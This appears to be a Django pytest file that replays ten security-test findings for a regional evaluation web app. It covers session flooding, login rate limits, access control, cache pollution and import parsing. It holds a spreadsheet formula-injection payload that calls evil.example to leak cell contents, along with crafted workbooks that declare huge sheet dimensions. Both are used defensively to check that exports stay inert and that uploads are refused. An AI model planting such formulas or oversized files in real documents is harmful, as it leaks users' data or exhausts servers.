"""The bad-input corpus of issue 12: one entry per finding of the security test, each
replaying what was found and asserting what must hold now. Findings whose proof needs more
room point at the test file that holds it."""

from __future__ import annotations

import pytest
from django.contrib.sessions.models import Session
from django.urls import reverse

from evaluations.views.city._common import UNSAVED_MAX_BYTES, UNSAVED_SESSION_KEY
from tests.bad_input.payloads import snapshot
from tests.conftest import job_result

pytestmark = pytest.mark.django_db


# --- Finding 4: anonymous POST bodies kept in sessions ----------


def test_finding_4_anonymous_posts_do_not_fill_the_session_table(client, world):
    title = "x" * 493_000
    before = snapshot()
    for i in range(20):
        response = client.post(
            f"/city/no-such-region-{i}/program/baru/",
            {"title": title},
            REMOTE_ADDR="203.0.113.40",
        )
        assert response.status_code == 302
    assert Session.objects.count() <= 1
    total = sum(len(s.session_data) for s in Session.objects.all())
    assert total < 4096
    assert snapshot() == before


def test_finding_4_a_large_body_for_a_real_region_is_not_kept(client, world):
    url = reverse("city:programme_create", args=[world.kota_bekasi.slug])
    client.post(url, {"title": "x" * (UNSAVED_MAX_BYTES + 1)}, REMOTE_ADDR="203.0.113.41")
    assert all(len(s.session_data) < 4096 for s in Session.objects.all()), (
        "a body over the bound was kept"
    )


def test_finding_4_a_small_body_is_kept_but_only_ten_times_an_hour_per_address(client, world):
    url = reverse("city:programme_create", args=[world.kota_bekasi.slug])
    for _ in range(10):
        client.cookies.clear()
        client.post(url, {"title": "Program baru"}, REMOTE_ADDR="203.0.113.42")
        assert client.session.get(UNSAVED_SESSION_KEY, {}).get("data") == {
            "title": ["Program baru"]
        }
    client.cookies.clear()
    client.post(url, {"title": "Program baru"}, REMOTE_ADDR="203.0.113.42")
    assert UNSAVED_SESSION_KEY not in client.session


# --- Finding 1: a formula in a comment, and lossless round trips ----------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'


def _manager(world):
    from django.test import Client

    from tests.conftest import login

    return login(Client(), world.users["manager"])


def _upload_and_apply(client, url: str, name: str, content: bytes):
    from tests.bad_input.payloads import upload
    from tests.conftest import job_next_page

    # The file is checked by a background job; its page leads to the preview.
    preview = job_next_page(client, client.post(url, {"file": upload(name, content)}))
    assert preview.status_code == 200, preview.content.decode()[-2000:]
    applied = client.post(url, {"upload": preview.context["pending"].pk, "apply": "1"})
    return preview, applied


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_finding_1_a_formula_comment_stays_text_and_an_unchanged_template_changes_nothing(
    world, fmt
):
    import io
    import zipfile

    from evaluations.models import VerifiedScore

    score = VerifiedScore.objects.get(participation=world.review_bekasi)
    score.comment = HYPERLINK
    score.save()
    other = VerifiedScore.objects.create(
        participation=world.review_bekasi,
        indicator=world.instrument.indicators.exclude(pk=score.indicator_id).first(),
        level=2,
        comment="  spasi di depan\nbaris kedua\t",
        set_by=world.users["manager"],
        version=1,
    )
    client = _manager(world)
    # The template is built by a background job; its page offers the file.
    url = reverse("reviewer:scores_template", args=[world.review.slug, fmt])
    template = job_result(client, client.post(url))
    if fmt == "xlsx":
        sheet = zipfile.ZipFile(io.BytesIO(template)).read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet  # text, never a live formula
    else:
        assert "'" + HYPERLINK.replace('"', '""') in template.decode("utf-8-sig")
    before = snapshot()
    url = reverse("reviewer:scores_upload", args=[world.review.slug])
    preview, applied = _upload_and_apply(client, url, f"nilai.{fmt}", template)
    assert "0 level baru, 0 diubah, 2 tetap" in preview.content.decode()
    assert applied.status_code == 302
    assert snapshot() == before
    score.refresh_from_db()
    other.refresh_from_db()
    assert (score.comment, score.version) == (HYPERLINK, 1)
    assert other.comment == "  spasi di depan\nbaris kedua\t"


# --- Finding 2: a declared dimension of 70,000 rows on the programme import ----------


@pytest.mark.parametrize("ref", ["A1:XFD70000", "A1:XFD1048576"])
def test_finding_2_a_huge_declared_sheet_is_refused_at_once(world, ref):
    import time

    from django.test import Client

    from tests.bad_input.payloads import upload
    from tests.conftest import login
    from tests.tabular.workbooks import sheet_xml, workbook

    last_row = int(ref.split("XFD")[1])
    data = workbook(
        [("Program", sheet_xml({(1, 1): "Nama program", (last_row, 1): "x"}, dimension=ref))]
    )
    assert len(data) < 5000
    client = login(Client(), world.users["bekasi"])
    url = reverse("city:programme_import", args=[world.kota_bekasi.slug])
    before = snapshot()
    started = time.monotonic()
    response = client.post(url, {"file": upload("program.xlsx", data)})
    assert time.monotonic() - started < 2
    assert response.status_code == 400
    assert ref in response.content.decode()
    assert snapshot() == before


# --- Finding 3: the admin login outside the rate limit ----------


def test_finding_3_the_admin_login_answers_429_past_the_address_limit(client, world, settings):
    settings.RATELIMIT_LOGIN = "10/m"
    codes = [
        client.post(
            reverse("admin:login"),
            {"username": f"tebakan{i}", "password": "salah"},
            REMOTE_ADDR="203.0.113.60",
        ).status_code
        for i in range(25)
    ]
    assert codes[:10] == [200] * 10
    assert set(codes[10:]) == {429}
    # Per user name as well: tests/security/test_login_rate_limits.py.


# --- Finding 5: junk values in the public cache: tests/public/test_canonical_cache.py ----


def test_finding_5_junk_rounds_are_404_and_not_cached(client, world):
    from django.core.cache import cache

    before = set(cache._cache)  # type: ignore[attr-defined]  # LocMemCache's own store
    for i in range(20):
        assert client.get(f"/?round=junk-{i}").status_code == 302
        # An unknown region on compare: a page of suggestions (issue 16), never cached.
        assert client.get(f"/compare/?regions=zz-{i}").status_code == 200
    assert not {k for k in set(cache._cache) - before if "public-page" in k}  # type: ignore[attr-defined]


# --- Finding 6: a far cell in a score upload ----------


def test_finding_6_a_far_cell_is_refused_in_bounded_memory(world):
    import tracemalloc

    from tests.bad_input.payloads import upload
    from tests.tabular.workbooks import sheet_xml, workbook

    data = workbook([("nilai", sheet_xml({(1, 1): "kode_wilayah", (200_000, 50): "x"}))])
    assert len(data) < 5000
    client = _manager(world)
    url = reverse("reviewer:scores_upload", args=[world.review.slug])
    before = snapshot()
    tracemalloc.start()
    response = client.post(url, {"file": upload("nilai.xlsx", data)})
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    # Its declared size passes the check in the request; the job reading it fails, naming
    # the cell, on its progress page.
    assert response.status_code == 302
    assert "AX200000" in client.get(response["Location"]).content.decode()
    assert peak < 20 * 1024 * 1024
    assert snapshot() == before


# --- Finding 7: a reviewer through an old seat: tests/reviewer/test_seat_access.py ----


def test_finding_7_an_old_seat_does_not_open_the_newest_evidence(client, world):
    from evaluations.models import SelfAssessmentAnswer
    from tests import factories
    from tests.conftest import login

    reviewer = world.users["reviewer"]
    factories.assign(world.published_bekasi, reviewer)
    world.seat.delete()
    newest = (
        SelfAssessmentAnswer.objects.filter(participation=world.review_bekasi)
        .first()
        .evidence.exclude(file="")  # type: ignore[misc]  # the stubs miss the custom manager
        .first()
    )
    login(client, reviewer)
    url = reverse("reviewer:evidence", args=[world.published_bekasi.pk, newest.pk])
    assert client.get(url).status_code == 404


# --- Finding 8: a score sheet written by pandas ----------


def test_finding_8_a_pandas_written_sheet_with_35_1_and_3_0_is_read_exactly(world):
    import csv
    import io

    from evaluations.models import VerifiedScore
    from tests import factories

    banyuwangi = factories.make_region(
        "35.10", "Kabupaten Banyuwangi", province=factories.make_province("35", "Jawa Timur")
    )
    factories.make_participation(world.review, banyuwangi)
    client = _manager(world)
    url = reverse("reviewer:scores_template", args=[world.review.slug, "csv"])
    template = job_result(client, client.post(url))
    rows = list(csv.reader(io.StringIO(template.decode("utf-8-sig"))))
    # What pandas.read_csv + to_csv does with default types: codes become floats, a level
    # column with blanks becomes floats ("3.0").
    for row in rows[1:]:
        row[0] = repr(float(row[0]))
        row[7] = "3.0"
    assert {row[0] for row in rows[1:]} >= {"35.1"}
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    url = reverse("reviewer:scores_upload", args=[world.review.slug])
    _preview, applied = _upload_and_apply(client, url, "nilai.csv", buffer.getvalue().encode())
    assert applied.status_code == 302
    assert VerifiedScore.objects.filter(participation__region=banyuwangi, level=3).count() == (
        world.instrument.indicators.count()
    )
    # A fraction is never rounded to a level.
    rows[1][7] = "3.5"
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    from tests.bad_input.payloads import upload

    response = client.post(url, {"file": upload("nilai.csv", buffer.getvalue().encode())})
    assert response.status_code == 302  # to the job that checks every row
    assert "3.5" in client.get(response["Location"]).content.decode()
    # Dropdowns, whole-number years and update-by-ID of the programme import:
    # tests/city/test_programme_template.py and tests/city/test_programme_import.py.


# --- Finding 9: live programme titles on the public profile ----------


def test_finding_9_an_operators_new_title_is_not_public_before_a_publication(client, world):
    from tests import factories

    factories.make_programme(world.kota_bekasi, title="Judul belum ditinjau")
    page = client.get(reverse("public:region", args=[world.kota_bekasi.slug]))
    assert page.status_code == 200
    assert "Judul belum ditinjau" not in page.content.decode()
    # More: tests/public/test_published_register.py.


# --- Finding 10: a private API of django-ratelimit ----------


def test_finding_10_no_private_name_of_a_dependency_is_imported():
    from tests.security.test_login_rate_limits import (
        test_no_module_imports_a_private_name_of_a_dependency as check,
    )

    check()


def test_previewed_files_never_applied_are_cleared_on_schedule(world):
    from datetime import timedelta

    from django.utils import timezone

    from evaluations.models import ImportKind, ImportUpload
    from evaluations.services.imports import import_upload_keep
    from smartcity.jobs.periodic import run_due

    fresh = import_upload_keep(
        kind=ImportKind.SCORES,
        data=b"y",
        filename="baru.csv",
        by=world.users["manager"],
        round=world.review,
    )
    old = import_upload_keep(
        kind=ImportKind.PROGRAMMES,
        data=b"x",
        filename="lama.xlsx",
        by=world.users["bekasi"],
        region=world.kota_bekasi,
    )
    ImportUpload.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=1))
    assert ImportUpload.objects.count() == 2
    assert "import_uploads" in run_due(only="import_uploads", force=True)
    assert list(ImportUpload.objects.values_list("pk", flat=True)) == [fresh.pk]
